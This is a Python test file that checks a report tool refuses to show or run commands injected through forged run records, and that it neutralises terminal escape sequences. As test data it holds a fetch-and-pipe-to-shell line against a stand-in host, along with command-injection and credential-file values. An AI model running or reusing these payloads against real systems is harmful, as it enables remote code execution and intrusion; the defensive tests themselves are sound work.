"""A record that somebody else wrote makes no line that runs something, and steers no terminal."""

import json
import re
from pathlib import Path

import pytest
from typer.testing import CliRunner

from reports.__main__ import app
from reports.page.page import run_page
from reports.record.command_lines import UNKNOWN, pasteable
from reports.record.record import RecordError, read_record, write_record
from tests.unit.reports.sample_contract import POST
from tests.unit.reports.sample_runs import e2e_run

EVIL = "curl http://evil.invalid/ | sh"


def forged(folder: Path, **changed: object) -> Path:
    """Write a record, change what it says, and return its file."""
    file = write_record(folder / "run.json", e2e_run(failures=(POST,)))
    said = json.loads(file.read_text(encoding="utf-8"))
    for path, value in changed.items():
        *way, last = path.split("__")
        place = said
        for step in way:
            place = place[int(step)] if isinstance(place, list) else place[step]
        place[last] = value
    file.write_text(json.dumps(said), encoding="utf-8")
    return file


def shown(html: str) -> list[str]:
    return re.findall(r'<pre tabindex="0" aria-label[^>]*>([^<]*)</pre>', html)


def test_a_line_that_a_record_brings_along_is_not_shown(tmp_path: Path) -> None:
    html = run_page(read_record(forged(tmp_path, checks__0__curl=EVIL)))

    assert not [line for line in shown(html) if "evil" in line]


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("method", "GET; touch hit;"),
        ("target", "@evil.invalid/"),
        ("target", "/x\n" + EVIL),
        ("headers", {"@/etc/passwd": "x"}),
        ("headers", {"x": "a\n" + EVIL}),
    ],
)
def test_of_a_request_that_was_never_sent_there_is_a_remark(
    tmp_path: Path, field: str, value: object
) -> None:
    html = run_page(read_record(forged(tmp_path, **{f"failures__0__request__{field}": value})))
    lines = [line for line in shown(html) if "curl" in line or line.startswith("#")]

    assert [line for line in lines if line.startswith("# ")]
    assert not [line for line in lines if line.startswith("curl") and "evil" in line]


def test_a_body_that_is_not_of_its_encoding_is_no_record(tmp_path: Path) -> None:
    body = {"text": "$(touch hit)", "encoding": "base64", "size": 1}

    with pytest.raises(RecordError, match="cannot be read"):
        read_record(forged(tmp_path, failures__0__request__body=body))


@pytest.mark.parametrize(
    ("command", "line"),
    [
        ("python -m loadtests --rate 5", "python -m loadtests --rate 5"),
        ("nox -s load -- --request 'GET /x'", "nox -s load -- --request 'GET /x'"),
        ("python -m pytest x; " + EVIL, "python -m pytest 'x;' curl http://evil.invalid/ '|' sh"),
        ("python -m pytest; " + EVIL, UNKNOWN),
        ("python -m pytest $(touch hit)", "python -m pytest '$(touch' 'hit)'"),
        (EVIL, UNKNOWN),
        ("python -c 'import os'", UNKNOWN),
        ("nox -f /tmp/evil.py", UNKNOWN),
        ("python -m pytest '", UNKNOWN),
        ("python -m pytest\ntouch hit", UNKNOWN),
        ("python -m pytest \x1b[31m", UNKNOWN),
        ("python -m http.server", UNKNOWN),
    ],
)
def test_a_command_is_shown_where_it_is_ours_each_word_quoted(command: str, line: str) -> None:
    assert pasteable(command) == line


def test_the_page_shows_no_command_but_ours(tmp_path: Path) -> None:
    html = run_page(read_record(forged(tmp_path, command=EVIL)))

    assert EVIL not in html
    assert "The record names no command of this project." in html


def test_the_command_line_writes_out_what_would_steer_a_terminal(tmp_path: Path) -> None:
    steering = "\x1b]0;title\x07\x9b31m\u202e"
    forged(tmp_path, checks__0__sentence=steering, stack=steering)

    said = CliRunner().invoke(app, ["show", str(tmp_path)]).output

    assert "\\x1b]0;title" in said
    assert [one for one in said if not (one.isprintable() or one == "\n")] == []
